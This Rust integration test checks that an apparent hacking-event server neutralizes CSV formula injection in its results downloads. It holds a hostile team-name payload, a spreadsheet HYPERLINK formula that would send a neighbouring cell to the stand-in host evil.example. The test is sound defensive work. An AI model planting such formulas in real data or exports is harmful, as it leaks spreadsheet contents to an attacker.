//! CSV downloads are opened in spreadsheets, which run a cell starting with `=`, `+`, `-` or
//! `@` as a formula. A team and an organization named like formulas come out of the results
//! download (the API's `Accept: text/csv` and the organizer's page alike) as text: prefixed
//! with `'` and quoted, while the numbers beside them stay numbers.

use cohack_server::models::{
    event::Event,
    role::{self, EventRole},
    team::Team,
};

use crate::{
    backend_tests,
    challenges::{TestEvent, running_event},
    harness::TestApp,
    plain_browser::PlainBrowser,
};

backend_tests!(formula_team_names_come_out_of_the_results_as_text);

/// A team name that a spreadsheet would turn into a link carrying the next cell away.
const FORMULA_TEAM: &str = "=HYPERLINK(\"https://evil.example/?\"&C2,\"results\")";
/// An organization name that a spreadsheet would evaluate.
const FORMULA_ORG: &str = "@SUM(1+1)";
/// A team name that a spreadsheet would compute (to 1).
const ARITHMETIC_TEAM: &str = "-2+3";

/// Registers `email` in `organization` as a participant of `event` who created `team_name`.
async fn team_named(
    app: &TestApp,
    event: &TestEvent,
    email: &str,
    organization: &str,
    team_name: &str,
) {
    let account = app.register(email, organization).await;
    let (event_id, user_id, name) = (event.id.clone(), account.id.clone(), team_name.to_owned());
    app.state
        .db
        .write(move |conn| {
            role::grant(conn, &event_id, &user_id, EventRole::Participant, None)?;
            let event = Event::find(conn, &event_id)?;
            Team::create(conn, &event, &name, &user_id)
        })
        .await
        .expect("team created");
}

/// Splits RFC 4180 text into rows of fields, as a spreadsheet's importer does, keeping for
/// each field whether it was quoted.
fn parse_csv(text: &str) -> Vec<Vec<(String, bool)>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let (mut quoted, mut in_quotes) = (false, false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (in_quotes, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => in_quotes = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => (quoted, in_quotes) = (true, true),
            (false, ',') => row.push((std::mem::take(&mut field), std::mem::take(&mut quoted))),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push((std::mem::take(&mut field), std::mem::take(&mut quoted)));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(!in_quotes, "unterminated quote in {text}");
    if !field.is_empty() || !row.is_empty() {
        row.push((field, quoted));
        rows.push(row);
    }
    rows
}

/// Asserts that no field of `csv` would be read as a formula and returns its rows by team.
fn check_results(csv: &str) -> Vec<Vec<(String, bool)>> {
    let rows = parse_csv(csv);
    assert_eq!(
        rows[0].iter().map(|(f, _)| f.as_str()).collect::<Vec<_>>()[..6],
        [
            "rank",
            "team",
            "organization",
            "solved",
            "score",
            "last_solve_at"
        ],
        "{csv}"
    );
    assert_eq!(rows.len(), 4, "a header and three teams: {csv}");
    for row in &rows {
        for (field, _) in row {
            // A plain number (`-5`) is read as that number and nothing else.
            let runs = field.starts_with(['=', '+', '@', '\t', '\r'])
                || (field.starts_with('-') && field.parse::<i64>().is_err());
            assert!(!runs, "a spreadsheet would run the cell {field:?} of {csv}");
        }
    }
    let team = |name: &str| {
        rows.iter()
            .find(|row| row[1].0 == format!("'{name}"))
            .unwrap_or_else(|| panic!("no neutralized row for {name}: {csv}"))
            .clone()
    };
    let formula = team(FORMULA_TEAM);
    assert!(formula[1].1, "a neutralized cell is quoted: {csv}");
    assert_eq!(formula[2], (format!("'{FORMULA_ORG}"), true), "{csv}");
    // The numbers beside it are numbers: a rank, solved and score as digits, unquoted.
    for (field, quoted) in [&formula[0], &formula[3], &formula[4]] {
        assert!(
            !quoted && field.parse::<i64>().is_ok(),
            "{field:?} in {csv}"
        );
    }
    team(ARITHMETIC_TEAM);
    let plain = rows
        .iter()
        .find(|row| row[1].0 == "Plain Team")
        .unwrap_or_else(|| panic!("the plain team is unchanged: {csv}"));
    assert_eq!(plain[2], ("Acme".to_owned(), false), "{csv}");
    rows
}

async fn formula_team_names_come_out_of_the_results_as_text(app: TestApp) {
    let event = running_event(&app, "csv").await;
    team_named(&app, &event, "eve@evil.example", FORMULA_ORG, FORMULA_TEAM).await;
    team_named(&app, &event, "mal@evil.example", "Evil", ARITHMETIC_TEAM).await;
    team_named(&app, &event, "ann@acme.example", "Acme", "Plain Team").await;

    // The API's CSV.
    let response = app
        .client
        .get(format!("{}/api/v1/events/csv/results", app.address))
        .bearer_auth(&event.organizer.access_token)
        .header("Accept", "text/csv")
        .send()
        .await
        .expect("request sent");
    assert_eq!(response.status(), 200);
    let api_csv = response.text().await.expect("csv");
    assert!(
        api_csv.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&C2,\"\"results\"\")\""),
        "{api_csv}"
    );
    check_results(&api_csv);

    // The organizer's download from the page.
    let mut organizer = PlainBrowser::sign_in(&app, &event.organizer.email).await;
    let download = organizer.get("/events/csv/manage/results.csv").await;
    assert_eq!(download.status(), 200);
    let page_csv = download.text().await.expect("csv");
    check_results(&page_csv);
    assert_eq!(page_csv, api_csv, "the page and the API render alike");
}
